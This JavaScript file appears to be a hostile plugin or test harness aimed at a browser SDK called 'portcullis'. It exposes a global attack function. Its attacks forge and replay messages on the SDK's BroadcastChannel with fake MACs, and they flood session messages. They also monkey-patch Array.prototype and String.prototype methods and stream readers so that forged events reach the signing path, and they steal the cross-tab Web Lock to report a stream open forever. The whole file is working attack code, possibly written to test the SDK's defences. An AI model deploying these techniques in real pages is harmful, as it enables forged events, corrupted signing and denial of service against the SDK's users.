// Uses what every script of the origin can use: the channel and the lock of the sdk's tabs.
import { createElement as h } from 'react';

const NAME = 'portcullis.events';
const channel = new BroadcastChannel(NAME);
const heard = [];
channel.onmessage = ({ data }) => heard.push(data);

/** Sends the event unsigned, with a forged MAC, and in the form of genuine messages. */
const say = (body) => {
  channel.postMessage(body);
  const text = JSON.stringify(body);
  const at = Date.now();
  channel.postMessage({ from: 'somebody', seq: 1, at, body: text, mac: 'A'.repeat(43) });
  for (const genuine of [...heard]) {
    if (genuine.mac === undefined) continue;
    for (const change of [{}, { seq: genuine.seq + 1000 }, { at }, { body: text }, { body: text, seq: 1e9, at }]) {
      channel.postMessage({ ...genuine, ...change });
    }
  }
};

const attacks = {
  heard: () => heard.filter(({ mac }) => mac !== undefined).length,
  event: ({ type, data }) => say({ kind: 'event', type, data: JSON.stringify(data) }),
  state: (open) => say({ kind: 'state', open, holds: true }),
  hints: () => {
    for (let at = 0; at < 500; at += 1) say({ kind: 'session' });
  },
  // Adds one item to any array of messages waiting to be signed.
  sign: ({ type, data }) => {
    const forged = JSON.stringify({ kind: 'event', type, data: JSON.stringify(data) });
    const { push } = Array.prototype;
    const isSaying = (value) => typeof value === 'string' && value.startsWith('{"kind":') && value !== forged;
    Array.prototype.push = function (...values) {
      const length = push.apply(this, values);
      return values.some(isSaying) ? push.call(this, forged) : length;
    };
    for (const index of [0, 1, 2]) {
      Reflect.defineProperty(Array.prototype, index, {
        configurable: true,
        set(value) {
          const own = { writable: true, enumerable: true, configurable: true };
          Object.defineProperty(this, index, { ...own, value });
          if (isSaying(value)) Object.defineProperty(this, index + 1, { ...own, value: forged });
        },
      });
    }
  },
  // Turns the text of a genuine event into another event, on its way from the stream's bytes to the signed message.
  twist: ({ from, to }) => {
    const json = JSON.stringify(to.data);
    const twisted = (text) => (text === from ? to.type : text.includes('"') && text.startsWith('{') ? json : text);
    for (const name of ['slice', 'substring', 'substr']) {
      const real = String.prototype[name];
      String.prototype[name] = function (...given) {
        const text = Reflect.apply(real, this, given);
        return `${this}`.includes(from) ? twisted(text) : text;
      };
    }
    const bytes = new TextEncoder().encode(`event: ${to.type}\ndata: ${json}\n\n`);
    const { read } = ReadableStreamDefaultReader.prototype;
    ReadableStreamDefaultReader.prototype.read = async function () {
      const result = await read.call(this);
      return result.done ? result : { done: false, value: bytes };
    };
    const { getReader } = ReadableStream.prototype;
    ReadableStream.prototype.getReader = function (...given) {
      const reader = getReader.apply(this, given);
      return { read: () => reader.read(), cancel: () => reader.cancel(), releaseLock: () => reader.releaseLock() };
    };
    Reflect.defineProperty(Array.prototype, 'toJSON', { value: () => [to] });
  },
  // Steals the lock from its holder and claims forever that the stream is open.
  lead: () =>
    new Promise((resolve) => {
      navigator.locks.request(NAME, { steal: true }, () => {
        setInterval(() => attacks.state(true), 500);
        resolve();
        return new Promise(() => {});
      });
    }),
};

export default () => {
  globalThis.attack = (name, argument) => attacks[name](argument);
  return {
    routes: {
      Page: ({ navigate }) => {
        globalThis.go = navigate;
        return h('div', { 'data-plugin-page': 'channel' });
      },
    },
  };
};
